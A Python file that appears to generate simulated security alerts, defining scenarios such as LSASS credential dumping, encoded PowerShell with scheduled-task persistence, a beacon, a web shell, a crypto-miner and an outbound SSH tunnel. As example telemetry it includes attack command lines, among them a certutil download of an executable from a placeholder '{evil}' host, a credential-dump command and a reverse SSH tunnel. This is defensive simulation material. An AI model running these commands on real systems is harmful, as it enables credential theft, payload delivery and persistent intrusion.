"""Stories about workstations and servers."""

from .shape import (
    ANTIVIRUS,
    CUSTOM,
    ENDPOINT,
    SMART_SCREEN,
    DeviceClue,
    Ending,
    FileClue,
    IpClue,
    ProcessClue,
    RegistryKeyClue,
    RegistryValueClue,
    Scenario,
    Severity,
    Stage,
    UrlClue,
    UserClue,
    Verdict,
    Where,
    Who,
)

LSASS_READ = Scenario(
    "lsass-read",
    "LSASS memory read by unsigned binary",
    (
        Stage(
            "lsass.exe memory read by wsdiag.exe",
            "A program without signature opened the process that keeps credentials and read its memory.",
            ENDPOINT, Severity.HIGH, "CredentialAccess", ("T1003.001",), "credentials",
            (DeviceClue(), UserClue(),
             ProcessClue("wsdiag.exe", "wsdiag.exe -p lsass -o C:\\ProgramData\\d.bin", "cmd.exe",
                         verdict=Verdict.MALICIOUS),
             FileClue("wsdiag.exe", "C:\\ProgramData"), FileClue("d.bin", "C:\\ProgramData")),
        ),
        Stage(
            "Pass-the-hash sign-in from {device} to {server}",
            "An account signed in to a server with a hash in place of a password.",
            ENDPOINT, Severity.HIGH, "LateralMovement", ("T1550.002",), "credentials",
            (DeviceClue(role="source"), DeviceClue(Where.SERVER, Verdict.SUSPICIOUS, "destination"),
             UserClue(Who.SERVICE, Verdict.MALICIOUS)),
            wait=(4, 22),
        ),
    ),
    (Ending.ATTACK, Ending.HARMLESS),
    weight=4,
)

ENCODED_TASK = Scenario(
    "encoded-task",
    "Scheduled task starts encoded PowerShell",
    (
        Stage(
            "Encoded PowerShell command on {device}",
            "PowerShell was started with a command hidden in Base64. Administrators rarely do that by hand.",
            ENDPOINT, Severity.MEDIUM, "Execution", ("T1059.001", "T1027.010"), "endpoint",
            (DeviceClue(), UserClue(),
             ProcessClue("powershell.exe", "powershell.exe -nop -w hidden -enc VwByAGkAdABlAC0ASABvAHMAdAA=", "cmd.exe")),
        ),
        Stage(
            "Scheduled task created by {account}",
            "A task that starts at every sign-in was added outside the usual software distribution.",
            ENDPOINT, Severity.MEDIUM, "Persistence", ("T1053.005",), "endpoint",
            (DeviceClue(),
             ProcessClue("schtasks.exe", "schtasks /create /sc onlogon /tn CacheSync /tr C:\\ProgramData\\sync.ps1",
                         "powershell.exe"),
             FileClue("sync.ps1", "C:\\ProgramData", verdict=Verdict.SUSPICIOUS),
             RegistryKeyClue("HKEY_LOCAL_MACHINE",
                             "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\CacheSync")),
            wait=(1, 6),
        ),
        Stage(
            "The same scheduled task on {second}",
            "The task was found on a second machine within the hour.",
            CUSTOM, Severity.MEDIUM, "LateralMovement", ("T1053.005", "T1021.006"), "endpoint",
            (DeviceClue(Where.SECOND), FileClue("sync.ps1", "C:\\ProgramData", Where.SECOND, Verdict.SUSPICIOUS)),
            wait=(10, 50),
        ),
    ),
    (Ending.ATTACK, Ending.HARMLESS, Ending.HARMLESS),
    weight=10,
)

BEACON = Scenario(
    "beacon",
    "Known beacon, every 60 seconds",
    (
        Stage(
            "Regular connections from {device} to {ip}",
            "The machine calls the same address once a minute with nearly equal pauses, also at night.",
            ENDPOINT, Severity.HIGH, "CommandAndControl", ("T1071.001", "T1573"), "endpoint",
            (DeviceClue(), IpClue(verdict=Verdict.MALICIOUS, role="commandAndControl"),
             ProcessClue("svcupd.exe", "C:\\ProgramData\\svcupd.exe -k", "explorer.exe", verdict=Verdict.MALICIOUS),
             FileClue("svcupd.exe", "C:\\ProgramData"), UrlClue("https://{evil}/poll")),
            threat="Kelderluik",
        ),
        Stage(
            "Run key added for svcupd.exe",
            "The program entered itself among those that start with the session.",
            ENDPOINT, Severity.MEDIUM, "Persistence", ("T1547.001",), "endpoint",
            (DeviceClue(),
             RegistryValueClue("HKEY_CURRENT_USER", "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "SvcUpd",
                               "C:\\ProgramData\\svcupd.exe -k")),
            wait=(0.5, 3),
        ),
    ),
    (Ending.MALWARE, Ending.ATTACK),
    weight=5,
)

MALWARE_STOPPED = Scenario(
    "malware-stopped",
    "'{family}' malware was stopped on {device}",
    (
        Stage(
            "'{family}' malware was prevented",
            "The antivirus found the file when it was written and removed it. Nothing was run.",
            ANTIVIRUS, Severity.LOW, "Malware", ("T1204.002",), "malware",
            (DeviceClue(verdict=Verdict.CLEAN, role="attacked"), FileClue("setup_{number}.exe", stopped=True)),
            threat="{family}",
        ),
        Stage(
            "'{family}' malware was prevented",
            "The same file was written again and removed again.",
            ANTIVIRUS, Severity.LOW, "Malware", ("T1204.002",), "malware",
            (DeviceClue(Where.SECOND, Verdict.CLEAN, "attacked"),
             FileClue("setup_{number}.exe", where=Where.SECOND, stopped=True)),
            wait=(5, 90),
            threat="{family}",
        ),
    ),
    (Ending.MALWARE, Ending.MALWARE, Ending.UNWANTED),
    weight=20,
)

REMOTE_TOOL = Scenario(
    "remote-tool",
    "Remote management tool outside the catalog",
    (
        Stage(
            "Remote management tool installed on {device}",
            "A tool for remote control that the organization does not use was installed by {account}.",
            ENDPOINT, Severity.MEDIUM, "CommandAndControl", ("T1219",), "endpoint",
            (DeviceClue(verdict=Verdict.UNKNOWN), UserClue(role="policyViolator"),
             FileClue("farview_host.exe", verdict=Verdict.SUSPICIOUS, publisher="Farview Remote Ltd"),
             ProcessClue("farview_host.exe", "farview_host.exe --unattended", "explorer.exe",
                         folder="C:\\Program Files\\Farview"),
             IpClue(verdict=Verdict.UNKNOWN, role="destination")),
        ),
    ),
    (Ending.UNWANTED, Ending.HARMLESS),
    weight=11,
)

WEB_SHELL = Scenario(
    "web-shell",
    "Web server of {org} starts a command shell",
    (
        Stage(
            "Script file written to the web root of {server}",
            "The web server itself wrote a script where only the deployment should write.",
            ENDPOINT, Severity.MEDIUM, "Persistence", ("T1505.003",), "endpoint",
            (DeviceClue(Where.SERVER), FileClue("health2.aspx", "C:\\inetpub\\wwwroot\\status", Where.SERVER),
             IpClue(verdict=Verdict.MALICIOUS)),
        ),
        Stage(
            "w3wp.exe started cmd.exe on {server}",
            "The worker process of the web server started a command shell that asked for the name of the account.",
            ENDPOINT, Severity.HIGH, "Execution", ("T1190", "T1059.003"), "endpoint",
            (DeviceClue(Where.SERVER, Verdict.MALICIOUS), UserClue(Who.SERVICE),
             ProcessClue("cmd.exe", "cmd.exe /c whoami & ipconfig /all", "w3wp.exe", Where.SERVER, Who.SERVICE,
                         Verdict.MALICIOUS)),
            wait=(0.5, 12),
        ),
        Stage(
            "certutil.exe downloaded a file to {server}",
            "A certificate tool was used to fetch a program from the web.",
            ENDPOINT, Severity.HIGH, "CommandAndControl", ("T1105",), "endpoint",
            (DeviceClue(Where.SERVER),
             ProcessClue("certutil.exe", "certutil -urlcache -f https://{evil}/p.exe p.exe", "cmd.exe", Where.SERVER,
                         Who.SERVICE, Verdict.MALICIOUS),
             FileClue("p.exe", "C:\\Windows\\Temp", Where.SERVER), UrlClue("https://{evil}/p.exe")),
            wait=(0.5, 6),
        ),
    ),
    (Ending.ATTACK,),
    weight=3,
    tags=("Crown jewel",),
)

LATE_SIGNATURES = Scenario(
    "late-signatures",
    "Antivirus signature update late on {few} devices",
    (
        Stage(
            "Antivirus signatures older than seven days on {device}",
            "The machine answers but has not fetched new signatures for a week.",
            ANTIVIRUS, Severity.INFORMATIONAL, "DefenseEvasion", (), "upkeep",
            (DeviceClue(verdict=Verdict.CLEAN, role="contextual"),
             DeviceClue(Where.SECOND, Verdict.CLEAN, "contextual"),
             DeviceClue(Where.STATION, Verdict.CLEAN, "contextual")),
        ),
    ),
    (Ending.HARMLESS,),
    weight=9,
)

USB_STORAGE = Scenario(
    "usb-storage",
    "USB storage used on {station}",
    (
        Stage(
            "Removable storage connected to {station}",
            "Device control allows storage there by exception only; no exception is on record.",
            CUSTOM, Severity.LOW, "Exfiltration", ("T1052.001", "T1091"), "data",
            (DeviceClue(Where.STATION, Verdict.UNKNOWN, "policyViolator"),
             UserClue(verdict=Verdict.UNKNOWN, role="policyViolator"),
             FileClue("{document}", "E:\\", Where.STATION, Verdict.UNKNOWN)),
        ),
    ),
    (Ending.HARMLESS, Ending.INSIDER),
    weight=9,
)

MINER = Scenario(
    "miner",
    "Crypto-miner on {few} machines",
    (
        Stage(
            "Mining software on {station}",
            "A program keeps all processors busy and speaks the protocol of a mining pool.",
            ENDPOINT, Severity.LOW, "Impact", ("T1496",), "malware",
            (DeviceClue(Where.STATION), FileClue("renderd.exe", "C:\\ProgramData\\Render", Where.STATION),
             ProcessClue("renderd.exe", "renderd.exe -o pool.{evil}:4444 --cpu 90", "explorer.exe", Where.STATION,
                         folder="C:\\ProgramData\\Render", verdict=Verdict.MALICIOUS)),
        ),
        Stage(
            "Connection to mining pool blocked",
            "Network protection stopped the connection to the pool.",
            SMART_SCREEN, Severity.INFORMATIONAL, "CommandAndControl", ("T1496", "T1071"), "malware",
            (DeviceClue(Where.STATION), UrlClue("https://pool.{evil}/", Verdict.SUSPICIOUS)),
        ),
    ),
    (Ending.UNWANTED, Ending.INSIDER),
    weight=5,
)

LINUX_SSH = Scenario(
    "outbound-ssh",
    "{server} starts outbound SSH",
    (
        Stage(
            "Outbound SSH from {server} to {ip}",
            "A server that only answers opened a tunnel to an address outside.",
            ENDPOINT, Severity.MEDIUM, "CommandAndControl", ("T1572", "T1021.004"), "endpoint",
            (DeviceClue(Where.SERVER), UserClue(Who.SERVICE),
             ProcessClue("ssh", "ssh -N -R 2222:127.0.0.1:22 relay@{ip}", "bash", Where.SERVER, Who.SERVICE),
             IpClue(role="destination")),
        ),
    ),
    (Ending.HARMLESS, Ending.ATTACK),
    weight=6,
)

SCENARIOS = (
    LSASS_READ,
    ENCODED_TASK,
    BEACON,
    MALWARE_STOPPED,
    REMOTE_TOOL,
    WEB_SHELL,
    LATE_SIGNATURES,
    USB_STORAGE,
    MINER,
    LINUX_SSH,
)
